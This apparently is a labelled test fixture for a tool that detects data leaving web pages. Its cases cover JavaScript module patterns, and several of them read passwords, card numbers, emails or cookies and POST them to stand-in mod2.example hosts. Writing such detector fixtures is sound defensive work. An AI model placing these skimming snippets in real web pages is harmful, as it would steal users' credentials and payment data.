//# webpack-like-registry
// flow: email > wp.mod2.example via fetch
(function (mods) {
  const cache = {};
  function req(id) {
    if (cache[id]) return cache[id].exports;
    const m = (cache[id] = { exports: {} });
    mods[id](m, m.exports, req);
    return m.exports;
  }
  req(0);
})([
  function (m, e, r) { r(1).send(document.querySelector('input[type=email]').value); },
  function (m, e) { e.send = (v) => fetch('https://wp.mod2.example/', { method: 'POST', body: v }); },
]);

//# registry-module-never-required
// no flow
// why: module 1 is never required
(function (mods) {
  function req(id) { const m = { exports: {} }; mods[id](m, m.exports, req); return m.exports; }
  req(0);
})([
  function () { console.log('start'); },
  function () { fetch('https://wp0.mod2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value }); },
]);

//# exported-function
// flow: password > exp.mod2.example via fetch
// why: an exported function counts as reachable
export function login() {
  return fetch('https://exp.mod2.example/', { method: 'POST', body: document.querySelector('input[type=password]').value });
}

//# module-private-function
// no flow
// why: the function is neither exported nor called
function login() {
  return fetch('https://exp0.mod2.example/', { method: 'POST', body: document.querySelector('input[type=password]').value });
}
export const version = '1.0';

//# export-default-object
// flow: phone > dflt.mod2.example via beacon
const api = {
  verify() { navigator.sendBeacon('https://dflt.mod2.example/', document.querySelector('input[type=tel]').value); },
};
export default api;

//# exported-value-only
// no flow
// why: the number is exported and no request is made here
export const tel = () => document.querySelector('input[type=tel]').value;
fetch('https://val0.mod2.example/ready');

//# common-js-exports
// flow: identifier > cjs.mod2.example via fetch
var exports = window.exports || {};
exports.track = function () { fetch('https://cjs.mod2.example/', { method: 'POST', body: document.cookie }); };

//# common-js-inner-helper
// no flow
// why: the helper is in a function scope and the exported function does not use it
(function (exports) {
  function helper() { fetch('https://cjs0.mod2.example/', { method: 'POST', body: document.cookie }); }
  exports.track = function () { return 'noop'; };
})(window.lib = {});

//# window-assigned
// flow: search > win.mod2.example via fetch
window.doSearch = function () {
  fetch('https://win.mod2.example/?q=' + encodeURIComponent(document.querySelector('input[type=search]').value));
};

//# dynamic-import-address
// flow: device > imp.mod2.example via import
import('https://imp.mod2.example/m.js?lang=' + navigator.language);

//# dynamic-import-fixed
// no flow
// why: the address is fixed and the language goes to the console
console.log(navigator.language);
import('https://imp0.mod2.example/m.js');

//# amd-define
// flow: username > amd.mod2.example via fetch
const defs = {};
function define(name, deps, f) { defs[name] = f.apply(null, deps.map((d) => defs[d])); }
define('net', [], () => ({ post: (v) => fetch('https://amd.mod2.example/', { method: 'POST', body: v }) }));
define('main', ['net'], (net) => net.post(document.querySelector('input[autocomplete=username]').value));

//# umd-wrapper
// flow: card > umd.mod2.example via fetch
(function (root, factory) {
  if (typeof module === 'object' && module.exports) module.exports = factory();
  else root.payLib = factory();
})(window, function () {
  return { pay: () => fetch('https://umd.mod2.example/', { method: 'POST', body: document.querySelector('input[autocomplete=cc-number]').value }) };
});

//# iife-returns-other
// no flow
// why: the IIFE gives out a function that sends a fixed text
window.payLib0 = (function () {
  const number = () => document.querySelector('input[autocomplete=cc-number]').value;
  const mask = () => '****';
  return { pay: () => fetch('https://umd0.mod2.example/', { method: 'POST', body: mask() }), valid: () => number().length > 12 };
})();

//# namespace-other-member
// no flow
// why: the member that sends is in a local object and only the other one is called
(function () {
  const ns = {
    send() { fetch('https://ns0.mod2.example/', { method: 'POST', body: document.cookie }); },
    log() { console.log('ready'); },
  };
  ns.log();
})();

//# constant-export-used
// no flow
// why: the required module gives a fixed number
(function (mods) {
  const req = (n) => { const m = { exports: {} }; mods[n](m); return m.exports; };
  fetch('https://ce0.mod2.example/?v=' + req('v').num);
})({ v: (m) => { m.exports = { num: 7, id: () => document.cookie }; } });

//# export-deleted
// no flow
// why: the only reference to the function is deleted in the same run
window.tmpLib0 = function () { fetch('https://xd0.mod2.example/', { method: 'POST', body: document.cookie }); };
delete window.tmpLib0;
